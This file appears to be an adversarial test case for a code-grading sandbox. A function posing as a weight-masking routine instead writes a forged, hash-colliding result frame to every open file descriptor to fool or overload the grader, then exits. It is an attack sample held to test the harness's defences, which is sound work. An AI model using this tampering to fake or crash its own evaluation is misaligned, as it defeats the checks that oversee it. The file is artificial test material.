# class: forge_the_channel
# wants: minutes of the grader itself: a dict of numbers that all have the same hash
# expect: held
# kind: BadReply|ChildDied
import os

import safetensors.torch


def threshold_mask(weight, alpha):
    pairs = ",".join(f'[["int","{i * (2**61 - 1)}"],["is",null]]' for i in range(30_000))
    tree = f'["dict",[{pairs}]]'.encode()
    data = safetensors.torch.save({"tree": torch.frombuffer(bytearray(tree), dtype=torch.uint8)})
    frame = len(data).to_bytes(8, "little") + data
    for descriptor in range(3, 64):
        try:
            os.fstat(descriptor)
            sent = 0
            while sent < len(frame):
                sent += os.write(descriptor, frame[sent : sent + 60_000])
        except OSError:
            pass
    os._exit(0)
